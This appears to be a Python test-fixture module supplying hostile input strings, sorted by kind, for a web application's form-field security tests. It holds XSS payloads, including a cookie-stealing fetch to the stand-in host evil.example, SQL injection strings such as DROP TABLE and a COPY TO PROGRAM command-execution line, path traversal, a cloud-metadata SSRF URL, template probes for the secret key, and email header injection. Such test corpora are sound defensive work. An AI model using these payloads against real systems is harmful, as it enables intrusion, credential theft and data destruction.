"""Hostile strings for every field a stranger can fill in: what an attacker or a broken
client sends, kept by kind in CORPUS so that a test can take the part it needs.

HOSTILE is every string once; XSS is the part meant to run script wherever it is shown
(tests/e2e/test_stored_xss.py stores it everywhere and looks for anything that runs). Some
strings (lone surrogates) cannot be encoded as UTF-8 as they are: wire() sends them the way
a broken client does. Raw byte sequences that are not text at all (invalid UTF-8) are in
HOSTILE_BYTES, for requests built by hand."""

from urllib.parse import quote

KB = 1024

DIGITS_OF_OTHER_SCRIPTS = [
    "²", "①", "¹²³", "٣", "൬", "𝟘", "Ⅻ", "½",
    "٠١٢٣٤٥٦٧٨٩",  # Arabic-Indic
    "१२३",  # Devanagari
    "๑๒๓",  # Thai
    "〇一二三",  # CJK
    "１２３",  # full-width
    "𝟙𝟚𝟛",  # mathematical double-struck
    "𑁧𑁨",  # Brahmi
    "1٢3",  # mixed scripts in one number
]  # fmt: skip

# The core of an attack, spelled the ways browsers still read as "run this".
JS_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "".join(f"&#{ord(c)};" for c in "javascript:alert(1)"),
    "javascript%3Aalert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "  JaVaScRiPt :alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "da\tta:text/html,<script>alert(1)</script>",
    "&#100;ata:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/javascript,alert(1)",
    "blob:https://evil.example/0f6c",
    "file:///etc/passwd",
]

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script>alert(1)//",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script type="module">alert(1)</script>',
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width angle brackets
    "';alert(1);//",
    '";alert(1);//',
    "'-alert(1)-'",
    "</script><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\x0balert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">',
    "<img src=/media/missing.jpg onerror=alert(1) alt=broken>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a onclick=alert(1)>click me</a>",
    '<p onclick="alert(1)">click me</p>',
    "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<style>@import "javascript:alert(1)";</style>',
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '" onmouseover="alert(1)',
    '"><img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    '"/><script>alert(1)</script>',
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",  # a polyglot
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>tap</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a id=x><text x=20 y=20>tap</text></a>"
    "<animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
    "</foreignObject></svg>",
    "<svg><image href=x onerror=alert(1) />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
]

# The URL spellings, inside the elements and attributes that load or follow them.
URLS_IN_MARKUP = [f'<a href="{url}">a tip</a>' for url in JS_URLS] + [
    '<img src="javascript:alert(1)" alt="x">',
    '<iframe src="&#106;avascript:alert(1)"></iframe>',
    '<form action="JAVASCRIPT:alert(1)"><button>go</button></form>',
    "<a href='java\tscript:alert(1)'>a tip</a>",
    "<a href=javascript:alert(1)>a tip</a>",
    '<a href="  javascript:alert(1)" title="spaces">a tip</a>',
    "[a tip](javascript:alert(1))",  # Markdown, should anything ever render it
    "[a tip](data:text/html,<script>alert(1)</script>)",
]

BROKEN_MARKUP = [
    "<p>unclosed",
    "<div><span></div></span>",
    "<>",
    "<!-->",
    "<!--",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "<?php echo 1; ?>",
    '<a href="x',
    '<img src="',
    "<p title='>'>quoted</p>",
    "<style>",
    "<textarea>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<a><a><a>nested links</a></a></a>",
    "<table><tr><td>unclosed cell",
    "<select><option>one<option>two",
    "<b>" * 2_000,
    "<ul><li>" * 500,
    "<p>" + "<div>" * 300 + "deep" + "</div>" * 300 + "</p>",
    "<" * 1_000,
    "&",
    "&#xFFFFFFFF;",
    "&#99999999999;",
    "&unknown;",
]

CONTROL = [
    "",
    " ",
    "\t\n\r",
    "\x00",
    "a\x00b",
    "\x00" * 100,
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\x01\x02\x03\x1b[31m",
    "".join(chr(c) for c in range(32)),
    "\x7f\x85\x9f",
    "\u2028\u2029",
    "line one\nline two",
]

# A lone surrogate is not a character: raw (as a broken client sends it) and escaped (text
# that looks like one and must stay text).
SURROGATES = [
    "\ud800",
    "\udfff",
    "a\ud800b",
    "\udc00\ud800",  # a pair in the wrong order
    "\ud83d",  # half an emoji
    "🏃\udc00",
    "\\ud800",
    "\\uD800\\uDC00",
    "&#xD800;",
    "&#55296;",
    "%ED%A0%80",
    "\\x00",
    "&#0;",
    "%00",
    "%",
    "%zz",
]

BIDI_AND_INVISIBLE = [
    "\u202e" + "gpj.exe",
    "\u202dforced LTR",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "\u200b",
    "Jo\u200bRunner",
    "admin\u200b",
    "\ufeff",
    "\u00adsoft\u00adhyphen",
    "\u3164",  # Hangul filler: an empty-looking name
    "\ufffc\ufffd",
    "\uffff\ufffe",  # non-characters
    "\U0010ffff",
    "𝐚𝐝𝐦𝐢𝐧",
    "аdmin",  # a Cyrillic а
    "مرحبا hello שלום",
    "\u202e<script>alert(1)</script>",
]

EMOJI_AND_MARKS = [
    "🏃‍♀️👨‍👩‍👧🇬🇧👍🏽",
    "🏳️‍🌈",
    "🧑🏽‍🤝‍🧑🏿",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",  # a tag sequence (Scotland)
    "1️⃣#️⃣",
    "\u200d",  # a joiner on its own
    "🏃" + "\u200d" * 50,
    "Z̴̡̛̖̼̗͎̪̞͈̳̙̏̆̿̾̈́͌͝a̷̢̨̛̹͎̙̬͍̗̲̜̒̽̈́͊l̶g̸o̵",
    "e\u0301",
    "\u0301leading combining mark",
    "a" + "\u0300" * 500,
    "𒐫",
    "İ",
    "Å",  # A + ring, not Å
    "क्‍ष",
    "กิ่",
]

NUMBERS = [
    "-1",
    "0",
    "+1",
    " 1",
    "1 ",
    "1e3",
    "1e309",
    "0x10",
    "00000001",
    "NaN",
    "inf",
    "Infinity",
    "1\x00",
    "2147483648",
    "9223372036854775808",
    "9" * 19,
    "9" * 4_301,
    "9" * 5_000,
    "1" + "0" * 4_999,
    "-" + "9" * 5_000,
    "0." + "1" * 5_000,
]

LONG = [
    "a" * 10_000,
    "é" * 5_001,
    "a" * 100 * KB,
    "é" * 50 * KB,  # 100 KB of UTF-8
    "🏃" * 25 * KB,  # 100 KB of UTF-8
    "\n" * 100 * KB,
    "<p>x</p>" * 12_800,
]

SQL = [
    "' OR 1=1; DROP TABLE comments_comment; --",
    "' OR '1'='1",
    '" OR ""="',
    "admin'--",
    "1; SELECT pg_sleep(10)--",
    "' UNION SELECT username, password FROM auth_user--",
    "\\'; DROP TABLE articles_article; --",
    "';COPY (SELECT '') TO PROGRAM 'id'--",
    "1 AND (SELECT 1 FROM pg_sleep(5))",
    "$1",
    "?",
    "char(39)",
    "\\",
    "'",
    "`",
    "_",
    # websearch_to_tsquery and LIKE syntax
    '"unclosed',
    "-",
    "or",
    "-run",
    "<->",
    ":*",
    "a & b",
    "!a",
    "*",
]

TEMPLATES_AND_FORMATS = [
    "{{ request }}{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'x' %}",
    "{{7*7}}",
    "%s%s%s%n{0}{__class__}",
    "%(password)s",
    "{0.__class__.__mro__}",
]

PATHS_AND_URLS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/%00",
    "%2F",
    "//evil.example/",
    "/\\evil.example",
    "/\t/evil.example",
    "https:evil.example",
    "https://evil.example",
    "http://evil.example@testserver/",
    "https://testserver.evil.example/",
    "http://127.0.0.1:8000/admin/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/",
    "http://[",
    "mailto:a@example.com",
    "tel:+441234567890",
    "#",
    "/.",
    "C:\\Windows\\system32",
    "\\\\evil.example\\share",
    "CON",
    "/admin/",
    "hamstring-strains",  # a real slug, in places that expect something else
    "hamstring-strains/",
]

HEADER_INJECTION = [
    "\r\nBcc: victim@example.com",
    "Set-Cookie: a=b\r\n",
    "Jo\r\nSubject: spam",
    "Jo\nBcc: x@example.com",
    "%0d%0aBcc:x@example.com",
    "\u2028Bcc: x@example.com",
    "Jo\r\n\r\n<html>a body of our own",
    "jo@example.com\r\nBcc: y@example.com",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "Location: https://evil.example\r\n",
    "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
]

EMAILS = [
    '"',
    '"@',
    '""',
    '"a"@example.com',
    '"a b"@example.com',
    '"a\\"b"@example.com',
    '"<script>alert(1)</script>"@example.com',
    "@",
    "a@",
    "a@b",
    "a@@b.com",
    "a@[127.0.0.1]",
    "a@[IPv6:::1]",
    "a@localhost",
    "a" * 65 + "@example.com",
    "x@" + "a" * 64 + ".com",
    "x@" + ".".join(["a" * 63] * 4) + ".com",
    "a" * 64 + "@" + "b" * 60 + "." + "c" * 60 + "." + "d" * 60 + ".com",
    "用户@例子.广告",
    "zoë@bücher.de",
    "a@💩.la",
    "jo@example.com\x00",
    "jo@example.com\n",
    " jo@example.com",
    "jo@exam ple.com",
    "jo@example.com\u200b",
    "a+tag@example.com",
    "a..b@example.com",
    "a@example..com",
    "a@example.com.",
    "a@example",
    "a(comment)@example.com",
    "Jo <jo@example.com>",
    '"Jo" <jo@example.com>, evil@example.com',
    "jo@example.com, evil@example.com",
    "JO@EXAMPLE.COM",
    "\u212a@example.com",  # the Kelvin sign, which lower() turns into a plain k
    "ß@example.com",
    "root@localhost",
    "jo@example.com<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>@example.com",
]

LITERALS = [
    "null",
    "None",
    "true",
    "[]",
    "{}",
    '{"__proto__": {"polluted": 1}}',
    '{"a":',
    "\\u0000",
    "__proto__",
    "constructor",
]

CORPUS: dict[str, list[str]] = {
    "script": SCRIPT,
    "event handlers": EVENT_HANDLERS,
    "svg and math": SVG,
    "javascript: and data: urls": JS_URLS,
    "broken markup": BROKEN_MARKUP,
    "control characters and nul": CONTROL,
    "surrogates": SURROGATES,
    "bidi and invisible": BIDI_AND_INVISIBLE,
    "emoji and combining marks": EMOJI_AND_MARKS,
    "digits of other scripts": DIGITS_OF_OTHER_SCRIPTS,
    "numbers": NUMBERS,
    "long": LONG,
    "sql and search syntax": SQL,
    "templates and formats": TEMPLATES_AND_FORMATS,
    "paths and urls": PATHS_AND_URLS,
    "header injection": HEADER_INJECTION,
    "emails": EMAILS,
    "literals": LITERALS,
}

HOSTILE = list(dict.fromkeys(value for kind in CORPUS.values() for value in kind))

# The kinds whose trouble is in storage (NUL, surrogates, integer ranges, sizes, SQL) run
# whole on every database; of the rest, SQLite (the zero-setup demo database) gets the first
# few of each kind. PostgreSQL, the production database, always gets the whole corpus.
STORAGE_KINDS = (
    "control characters and nul",
    "surrogates",
    "numbers",
    "long",
    "sql and search syntax",
)
SAMPLE_PER_KIND = 3


def corpus_for(vendor: str) -> list[str]:
    """The corpus a test sends on the database `vendor` (connection.vendor)."""
    if vendor == "postgresql":
        return HOSTILE
    return list(
        dict.fromkeys(
            value
            for kind, values in CORPUS.items()
            for value in (values if kind in STORAGE_KINDS else values[:SAMPLE_PER_KIND])
        )
    )


# What is meant to run script wherever it is shown, and each URL spelling inside the markup
# that would follow it. Each payload calls alert() (or loads evil.example), which is how the
# browser test recognises anything that came from one.
XSS = list(dict.fromkeys([*SCRIPT, *EVENT_HANDLERS, *SVG, *JS_URLS, *URLS_IN_MARKUP]))
XSS_MARKERS = ("alert(", "evil.example")

# Sent as raw bytes inside an application/x-www-form-urlencoded body.
HOSTILE_BYTES = [
    b"%ED%A0%80",  # a lone surrogate, UTF-8 encoded
    b"%F0%28%8C%28",  # invalid UTF-8
    b"%C0%AF",  # an overlong "/"
    b"%FF%FE",
    b"%80",  # a continuation byte alone
    b"%E2%82",  # a character cut short
]


def wire(value: str) -> str:
    """`value` percent-encoded as a client sends it, lone surrogates included (encoded as
    the three bytes a broken client sends, which are not UTF-8)."""
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def form_body(data: dict[str, str]) -> str:
    """An application/x-www-form-urlencoded body that carries every string as sent."""
    return "&".join(f"{wire(name)}={wire(value)}" for name, value in data.items())
